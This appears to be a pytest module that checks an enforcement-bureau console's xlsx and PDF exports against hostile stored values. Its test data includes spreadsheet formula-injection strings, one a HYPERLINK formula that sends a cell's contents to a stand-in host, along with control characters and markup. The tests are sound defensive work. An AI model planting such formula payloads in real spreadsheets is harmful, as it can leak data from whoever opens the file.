"""No stored value can make an export fail, or turn into something it is not.

The values are written straight into the database (Core updates), as an old import, a
restore or raw SQL could leave them, bypassing the input guard: spreadsheet formulas,
control characters, PDF markup, 10,000-character text, emoji and rare CJK, empty strings.
Every xlsx must hold each name as text (no formula cell, shown exactly as stored) and
every PDF must be written, with markup printed as typed.
"""

from __future__ import annotations

import dataclasses
import shutil
import subprocess
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from reportlab.graphics.charts.barcharts import HorizontalBarChart
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from console.core.auth import User
from console.core.database import Database, open_database
from console.core.demo import demo_workspace, generate_demo
from console.core.people import list_people
from console.core.scoring.ranking import month_ranking
from console.core.scoring.rules import list_rule_sets, list_rules
from console.core.scoring.squads import SquadResult
from console.core.training.progress import year_progress
from db.accounts import UserAccount
from db.integrity import Finding
from db.org import Person, Unit
from db.scoring import Rule
from db.training import Certificate, Exam, TrainingSession
from exports import templates_xlsx
from exports.bulletin_pdf import squad_chart, write_monthly_bulletin
from exports.inspection_pdf import write_inspection_bulletin
from exports.pdf_common import register_fonts
from exports.ranking_xlsx import write_ranking
from exports.roster_xlsx import write_roster
from exports.rules_xlsx import write_rules
from exports.safe_text import printable
from exports.scorecard_pdf import write_scorecard
from exports.templates_xlsx import TEMPLATES, write_template
from exports.training_pdf import write_training_report
from exports.training_xlsx import write_progress
from glossary import YearMonth

TODAY = date(2026, 11, 22)
MONTH = YearMonth(2026, 10)

# What issue 11 measured, first: these must come out as names, not formulas.
FORMULAS = ["=1+1", "+8613800000000", "-x", "@x", '=HYPERLINK("http://e.example/?"&C3,"详情")']
HOSTILE = [
    *FORMULAS,
    "\t制表开头",
    "\r回车开头",
    "#N/A",
    "控\x00制\x01字\x1f符\x7f和\x85C1\x9f",
    "<b>粗</b>",
    "A&amp;B<br/>",
    '<font face="x">&',
    "𠀀😀",
    "",
    "长" * 10_000,
    "x" * 10_000,
    "多行\n姓名",
]
BUREAU_NAME = "<i>临江</i>\x07市综合行政执法局"

needs_poppler = pytest.mark.skipif(
    shutil.which("pdftotext") is None, reason="poppler-utils (pdftotext) not installed"
)


@dataclasses.dataclass(frozen=True)
class Hostile:
    database: Database
    staff_nos: list[str]  # staff_nos[i] is named HOSTILE[i]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    """A small demo bureau whose people, units, rules, findings and training records carry
    the hostile values: every ranked person of October gets one as a name."""
    database = open_database(tmp_path_factory.mktemp("hostile") / "ducha.sqlite3")
    demo_workspace(database).run(generate_demo, seed=2026, today=TODAY, people=80, months=3)
    with database.session() as s:
        ranked = [p.staff_no for p in month_ranking(s, admin(s), MONTH).people]
    staff_nos = ranked[: len(HOSTILE)]
    assert len(staff_nos) == len(HOSTILE)
    with database.engine.begin() as c:
        for staff_no, text in zip(staff_nos, HOSTILE, strict=True):
            c.execute(
                update(Person)
                .where(Person.staff_no == staff_no)
                .values(name=text, position=text, phone=text)
            )
        for model, columns in (
            (Unit, ("name", "short_name")),
            (Rule, ("text", "count_unit")),
            (Finding, ("description", "topic")),
            (TrainingSession, ("title",)),
            (Exam, ("title",)),
            (Certificate, ("number",)),
        ):
            ids = c.scalars(select(model.id).order_by(model.id)).all()  # type: ignore[attr-defined]
            for row_id, text in zip(ids, HOSTILE * 4, strict=False):
                c.execute(
                    update(model)
                    .where(model.id == row_id)  # type: ignore[attr-defined]
                    .values({name: text for name in columns})
                )
    yield Hostile(database, staff_nos)
    database.close()


def admin(session: Session) -> User:
    acc = session.scalars(select(UserAccount).where(UserAccount.username == "admin")).one()
    return User(acc.id, acc.username, acc.display_name, acc.role, acc.unit_id)


def cells(path: Path) -> list[Any]:
    """Every cell of every sheet of the workbook as written to disk."""
    wb = load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def in_cell(text: str) -> str:
    """The text as a cell holds it: printable, line breaks as line feeds, at most the
    32,767 characters Excel allows in a cell."""
    return printable(text).replace("\r\n", "\n").replace("\r", "\n")[:32_767]


def assert_all_text(path: Path, expected: list[str]) -> None:
    """No formula or error cell; each expected text is in a cell exactly (less the
    characters no xlsx can hold); no cell holds a control character."""
    found = cells(path)
    assert [c.coordinate for c in found if c.data_type in ("f", "e")] == []
    texts = {c.value for c in found if isinstance(c.value, str)}
    missing = [t for t in expected if t and in_cell(t) not in texts]
    assert missing == []
    assert all(printable(t) == t for t in texts)
    for c in found:
        if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert c.data_type == "s" and c.quotePrefix  # stays text when edited in Excel


def test_people_named_like_formulas_are_exported_as_their_names(
    hostile: Hostile, tmp_path: Path
) -> None:
    with hostile.database.session() as s:
        user = admin(s)
        people = list_people(s, user)
        ranking = month_ranking(s, user, MONTH)
    roster = write_roster(people, tmp_path / "roster.xlsx", FORMULAS[0], TODAY)
    ranked = write_ranking(ranking, tmp_path / "ranking.xlsx", FORMULAS[4])
    for path in (roster, ranked):
        found = cells(path)
        assert [c.coordinate for c in found if c.data_type == "f"] == []
        names = {c.value for c in found if c.column == (2 if path == roster else 3)}
        assert set(FORMULAS) <= names  # shown exactly: no apostrophe, no sign dropped
        assert_all_text(path, HOSTILE)
    # Scores stay numbers, so the ranking still sums and sorts in Excel.
    totals = [c for c in cells(ranked) if c.column == 9 and c.row > 2]
    assert totals and all(c.data_type == "n" for c in totals)


def test_the_rules_and_training_workbooks_hold_hostile_text_as_text(
    hostile: Hostile, tmp_path: Path
) -> None:
    with hostile.database.session() as s:
        user = admin(s)
        sets = list_rule_sets(s, user)
        catalogues = [(rs, list_rules(s, user, rs.id)) for rs in sets]
        progress = list(year_progress(s, user, 2026, TODAY).people)
    assert any(r.text in HOSTILE for _, rules in catalogues for r in rules)
    for i, (rule_set, rules) in enumerate(catalogues):
        path = write_rules(rule_set, rules, tmp_path / f"rules{i}.xlsx")
        assert_all_text(path, [r.text for r in rules])
    path = write_progress(progress, tmp_path / "progress.xlsx", "@" + FORMULAS[4])
    assert_all_text(path, ["@" + FORMULAS[4], *(p.name for p in progress)])


def test_templates_write_their_texts_as_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Templates hold no stored data, but they write through the same cells: an example
    that starts like a formula (a signed number, say) stays the example."""
    kind, fmt = next(iter(TEMPLATES.items()))
    odd = [
        dataclasses.replace(col, example=text)
        for col, text in zip(fmt.columns, ["=1+1", "-2", "@x", "#N/A", "a\x01b"], strict=False)
    ]
    patched = dataclasses.replace(fmt, columns=(*odd, *fmt.columns[len(odd) :]))
    monkeypatch.setitem(templates_xlsx.TEMPLATES, kind, patched)
    path = write_template(kind, tmp_path / "t.xlsx")
    assert_all_text(path, [c.example for c in odd])
    for other in TEMPLATES:
        assert_all_text(write_template(other, tmp_path / f"{other}.xlsx"), [])


def pdf_text(path: Path) -> str:
    return subprocess.run(
        ["pdftotext", "-enc", "UTF-8", str(path), "-"],
        capture_output=True,
        text=True,
        encoding="utf-8",
        check=True,
    ).stdout


@needs_poppler
def test_every_pdf_is_written_and_prints_markup_as_typed(hostile: Hostile, tmp_path: Path) -> None:
    with hostile.database.session() as s:
        user = admin(s)
        bulletin = write_monthly_bulletin(
            s, user, MONTH, tmp_path / "b.pdf", bureau_name=BUREAU_NAME, issued_on=TODAY
        )
        training = write_training_report(
            s, user, 2026, tmp_path / "t.pdf", bureau_name=BUREAU_NAME, issued_on=TODAY
        )
        inspection = write_inspection_bulletin(
            s,
            user,
            date(2026, 9, 1),
            date(2026, 11, 20),
            tmp_path / "i.pdf",
            bureau_name=BUREAU_NAME,
            issued_on=TODAY,
        )
        cards = [
            write_scorecard(
                s, user, staff_no, 2026, tmp_path / f"s{i}.pdf", bureau_name="", issued_on=TODAY
            )
            for i, staff_no in enumerate(hostile.staff_nos)
        ]
    text = pdf_text(bulletin)
    for name in ("=1+1", "@x", "<b>粗</b>", "A&amp;B<br/>", "#N/A"):
        assert name in text  # a name, not markup: nothing bold, nothing swallowed
    assert "<i>临江</i>市综合行政执法局" in "".join(text.split())
    assert "\x07" not in text and "\x00" not in text
    assert "控制字符和C1" in pdf_text(cards[HOSTILE.index("控\x00制\x01字\x1f符\x7f和\x85C1\x9f")])
    # The 10,000-character name is cut short in its cell rather than stopping the report.
    long_card = pdf_text(cards[HOSTILE.index("长" * 10_000)])
    assert "长长长" in long_card and "…" in long_card
    for path in (training, inspection):
        assert "<i>临江</i>" in "".join(pdf_text(path).split())


@pytest.mark.parametrize("bureau_name", ["长" * 10_000, "a\x00\x1f\x7f\x9fb", "", "<br/>&"])
def test_no_bureau_name_stops_the_bulletin(
    hostile: Hostile, tmp_path: Path, bureau_name: str
) -> None:
    with hostile.database.session() as s:
        path = write_monthly_bulletin(
            s, admin(s), MONTH, tmp_path / "b.pdf", bureau_name=bureau_name, issued_on=TODAY
        )
    assert path.stat().st_size > 0


def test_a_run_on_squad_name_leaves_the_chart_its_room() -> None:
    """An axis label is cut short, so a squad named with thousands of characters cannot
    squeeze the bulletin's bar chart off the page."""
    squads = [
        SquadResult(1, "长" * 10_000, 20, Decimal(100), Decimal(0), Decimal(101), 1),
        SquadResult(2, "城东\x01中队", 20, Decimal(100), Decimal(0), Decimal(99), 2),
    ]
    drawing = squad_chart(register_fonts(), squads, 480)
    chart = next(c for c in drawing.contents if isinstance(c, HorizontalBarChart))
    assert chart.width > 480 / 3
    assert chart.categoryAxis.categoryNames == ["长" * 23 + "…", "城东中队"]
